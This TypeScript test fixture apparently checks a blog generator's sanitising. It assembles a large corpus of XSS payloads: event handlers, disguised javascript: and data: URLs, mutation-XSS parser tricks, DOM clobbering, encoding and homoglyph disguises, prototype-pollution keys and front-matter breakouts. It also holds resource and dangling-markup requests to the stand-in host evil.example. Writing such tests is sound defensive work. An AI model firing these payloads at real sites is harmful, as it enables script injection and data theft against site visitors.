/** One attack on readers, as it would lie in the inbox. */
export interface Attack {
  /** What it tries, and where. */
  readonly name: string;
  /** A whole article. */
  readonly source: string;
}

/** What a successful attack does: it calls this, which counts where the browser's test serves the page. */
const RUN = 'pwned()';
/** Where a successful attack asks for something. */
export const FOREIGN = 'https://evil.example';

const HANDLERS = [
  'onclick',
  'onload',
  'onerror',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
];
const HOLDERS = ['p', 'img src=x', 'details open', 'a href=/x', 'svg', 'video', 'body', 'marquee', 'x-own'];

/** Addresses that run something, in the disguises that browsers see through. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `&#1;javascript:${RUN}`,
  `java&#9;script:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&#13;script:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `view-source:javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  `vbscript:${RUN}`,
  `blob:${FOREIGN}/x`,
  'filesystem:http://evil.example/x',
];
const LINKS = [
  (address: string) => `<a href="${address}">a</a>`,
  (address: string) => `[a](<${address}>)`,
  (address: string) => `![a](<${address}>)`,
  (address: string) => `[a][b]\n\n[b]: <${address}>`,
  (address: string) => `<area href="${address}"><img src="${address}">`,
  (address: string) =>
    `<iframe src="${address}"></iframe><form action="${address}"><button>a</button></form>`,
];

/** Things that ask another host for something by themselves. */
const REQUESTS = [
  `<link rel=stylesheet href=${FOREIGN}/a.css>`,
  `<link rel=prefetch href=${FOREIGN}/a><link rel=dns-prefetch href=//evil.example>`,
  `<style>@import url(${FOREIGN}/a.css);</style>`,
  `<style>a[href^="/x"]{background:url(${FOREIGN}/a)}</style><a href="/x1">a</a>`,
  `<p style="background:url(${FOREIGN}/a)">a</p>`,
  `<table background=${FOREIGN}/a><td background=${FOREIGN}/b>a</table>`,
  `<video src=${FOREIGN}/a poster=${FOREIGN}/b autoplay></video>`,
  `<audio src=${FOREIGN}/a autoplay></audio>`,
  `<embed src=${FOREIGN}/a>`,
  `<object data=${FOREIGN}/a></object>`,
  `<iframe src=${FOREIGN}/a></iframe>`,
  `<frameset><frame src=${FOREIGN}/a></frameset>`,
  `<portal src=${FOREIGN}/a></portal><fencedframe></fencedframe>`,
  `<input type=image src=${FOREIGN}/a>`,
  `<svg><image href=${FOREIGN}/a /><use href=${FOREIGN}/a#b /></svg>`,
  `<svg><feImage xlink:href=${FOREIGN}/a /></svg>`,
  `<picture><source srcset=${FOREIGN}/a><img></picture>`,
  `<img srcset="${FOREIGN}/a 1x">`,
  `<noscript><img src=${FOREIGN}/a></noscript>`,
  `<meta http-equiv=refresh content="0;url=${FOREIGN}/">`,
  `<base href=${FOREIGN}/><img src=a>`,
  `<track src=${FOREIGN}/a><bgsound src=${FOREIGN}/a>`,
  `<script src=${FOREIGN}/a.js></script>`,
  `<img src='${FOREIGN}/a?`,
  `<a href="${FOREIGN}/?`,
  `<img src="${FOREIGN}/a?\n\nsecret\n\n">`,
  `<textarea><form action=${FOREIGN}>`,
  `<body background=${FOREIGN}/a>`,
  `<html manifest=${FOREIGN}/a>`,
  `<a href=/x ping=${FOREIGN}/a>a</a>`,
];

/** Namespaces, raw text and implied ends: where parsers see different trees. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg><desc><noscript></noscript></desc><style></style><img src=x onerror=${RUN}></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${RUN}>"></title>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=${RUN}>"></noframes>`,
  `<iframe><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<style><p title="</style><img src=x onerror=${RUN}>"></style>`,
  `<script><!--<script></script><img src=x onerror=${RUN}>--></script>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
  `<select><option><img src=x onerror=${RUN}></select>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!---><img src=x onerror=${RUN}>-->`,
  `<!--x--!><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml <img src=x onerror=${RUN}>?>`,
  `<!DOCTYPE x[<!ENTITY y "<img src=x onerror=${RUN}>">]>&y;`,
  `</ <img src=x onerror=${RUN}>>`,
  `<a/onmouseover=${RUN}/href=x>a</a>`,
  `<img/src/onerror=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img src=x\u000conerror=${RUN}>`,
  `<img src=\`x\` onerror=${RUN}>`,
  `<<img src=x onerror=${RUN}>`,
  `<img <img src=x onerror=${RUN}>`,
  `<p title='"><img src=x onerror=${RUN}>'>a`,
  `<p title="&quot;><img src=x onerror=${RUN}>">a`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `<table><tr><img src=x onerror=${RUN}><td>a<table><script>${RUN}</script></table>`,
  '<table>loose<tr><a href=/x>b<td>c</a></table>',
  '<table>&nbsp;<tr>\u200b<td>a</td>&#xfeff;</tr>\u2003</table>',
  '<ul><li>a<li>b<div><li>c</div></ul><li>d',
  '<dl><dt>a<dd>b<div><dd>c</div></dl><dt>d',
  '<a href=/a>1<a href=/b>2<p>3<a href=/c>4</a></a></a>',
  '<p>1<p>2<h2>3<h3>4</h2>5</h3><pre>\n\n6<p>7<div>8</pre>',
  '<b><i><p>1</b>2</i>3<table><caption><table><td>4</table></caption>',
  '<ruby>a<rt>b<rt>c<rp>d</ruby><rt>e',
  '<col><td>a<tr>b<tbody>c<caption>d',
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<svg><a xlink:href="javascript:${RUN}"><text>a</text></a></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${RUN} /><a id=x><text>a</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
  `<svg><script>&#112;wned()</script></svg>`,
  `<svg/onload=${RUN}><svg onload\t=${RUN}>`,
];

/** Names that hide what scripts look for. */
const CLOBBERED = [
  '<form id=test><input name=attributes></form>',
  '<img name=body><img name=currentScript src=x><form name=cookie></form>',
  '<a id=defaultView href=/x></a><a id=defaultView name=x href=/y></a>',
  '<iframe name=self srcdoc="<a id=top href=cid:x>"></iframe>',
  '<p id=main>a</p><p id=comments>b</p><p id=__proto__>c</p><p id=constructor>d</p>',
  '<p data-body>a</p><p data-search>b</p><p class="masthead skip">c</p>',
  '<input type=checkbox name=getElementById><object name=location></object>',
  '<a name="querySelector" href="#main">a</a>',
];

/** In Markdown alone. */
const MARKDOWN = [
  `\`\`\`"><img src=x onerror=${RUN}>\na\n\`\`\``,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `![x"onerror="${RUN}](x)`,
  `![x](x "t"onerror="${RUN}")`,
  `![x](x"onerror="${RUN})`,
  `[a](/x "\\"onmouseover=\\"${RUN}")`,
  `<javascript:${RUN}>`,
  `[a]( javascript:${RUN})`,
  `[a](javascript&colon;${RUN})`,
  `[a](/x 'onclick=${RUN}')`,
  `[^1]: <img src=x onerror=${RUN}>\n\na[^1]`,
  `a[^"><img src=x onerror=${RUN}>]\n\n[^"><img src=x onerror=${RUN}>]: b`,
  `# <img src=x onerror=${RUN}>`,
  `# "><img src=x onerror=${RUN}> {#x onclick=${RUN}}`,
  `| <img src=x onerror=${RUN}> | b |\n| :-: | - |\n| <script>${RUN}</script> | \`</td><script>${RUN}</script>\` |`,
  `- [x] <img src=x onerror=${RUN}>\n- [ ] "><script>${RUN}</script>`,
  `    <script>${RUN}</script>`,
  `\`<script>${RUN}</script>\``,
  `http://evil.example/"onmouseover="${RUN}`,
  `<http://evil.example/"onmouseover="${RUN}>`,
  `**<b onclick=${RUN}>a**</b>`,
  `> <script>\n> ${RUN}\n> </script>`,
  `<p\n\nonclick=${RUN}>a</p>`,
  `<script>\n\n${RUN}\n\n</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\<script>${RUN}\\</script>`,
];

/** Markup to who reads another encoding, or takes one letter for another. */
const DISGUISES = [
  `\u001b$B<p title="\u001b(B"><img src=x onerror=${RUN}>">a`,
  `<p title="\u001b$B">\u001b(B<img src=x onerror=${RUN}>`,
  `<p title="\u001b(J\\"onclick=${RUN}//">a`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<\u017fcript>${RUN}</\u017fcript><\u212Abd onclick=${RUN}>a`,
  `<a href="java\u017fcript:${RUN}">a</a>`,
  `\u02b9\u02ba><img src=x onerror=${RUN}>`,
  `<\u00adscript>${RUN}</\u00adscript>`,
  `<img src=x\u00a0onerror=${RUN}><img src=x\u2028onerror=${RUN}><img src=x\u0085onerror=${RUN}>`,
];

/** Names that every object of a script has. */
const INHERITED = [
  '[__proto__]\n\n[__proto__]: /x',
  '[a][constructor] [b][toString] [c][hasOwnProperty]',
  'a[^__proto__] b[^constructor]\n\n[^__proto__]: c\n\n[^constructor]: d',
  '```constructor\na\n```\n\n```__proto__\nb\n```',
  '<constructor>a</constructor><__proto__ constructor=b toString=c>d</__proto__><p __proto__=e valueOf=f>g',
  '<p class="constructor __proto__" id=hasOwnProperty>a</p>\n\n## constructor\n\n## __proto__',
];

/** What ends texts, attributes, addresses, scripts, comments and lines. */
const ENDINGS = [
  `</title><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `</script><script>${RUN}</script>`,
  `<!--<script>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `javascript:${RUN}`,
  '\u202eevil\u2066x',
  '{{constructor.constructor("pwned()")()}}',
  `\u2028${RUN}//`,
];
const KEYS = [
  'title',
  'author',
  'tags',
  'categories',
  'description',
  'headimg',
  'thumbnail',
  'lang',
  'extra',
  'redirect_from',
];

const body = (text: string) => `---\ntitle: An attack\ndate: 2026-03-01\n---\n\n${text}\n`;
const inBody = (kind: string, texts: readonly string[]): Attack[] =>
  texts.map((text) => ({ name: `${kind}: ${text}`, source: body(text) }));

/** Every attack. */
export const attacks: readonly Attack[] = [
  ...inBody(
    'a handler',
    HANDLERS.flatMap((handler) => HOLDERS.map((holder) => `<${holder} ${handler}=${RUN}>a`)),
  ),
  ...inBody(
    'an address',
    ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
  ),
  ...inBody('a request', REQUESTS),
  ...inBody('a mutation', MUTATIONS),
  ...inBody('a name', CLOBBERED),
  ...inBody('Markdown', MARKDOWN),
  ...inBody('a disguise', DISGUISES),
  ...inBody('an inherited name', INHERITED),
  {
    name: 'an inherited name: front matter',
    source:
      '---\ndate: 2026-03-01\n__proto__: {draft: true}\nconstructor: a\ntags: [__proto__, constructor]\n---\n\nText\n',
  },
  ...KEYS.flatMap((key) =>
    ENDINGS.map((ending) => ({
      name: `front matter: ${key}: ${ending}`,
      source: `---\ndate: 2026-03-01\n${key}: ${JSON.stringify(ending)}\n---\n\nText\n`,
    })),
  ),
  {
    name: 'names of the files that stand in the folders of listings',
    source:
      '---\ndate: 2026-03-01\ncategories: [[a, index.html], [a, Feed.xml], [index.html], [feed.json]]\ntags: [index.html, a, .., .]\nauthor: [index.html, feed.xml, a]\n---\n\nText\n',
  },
];
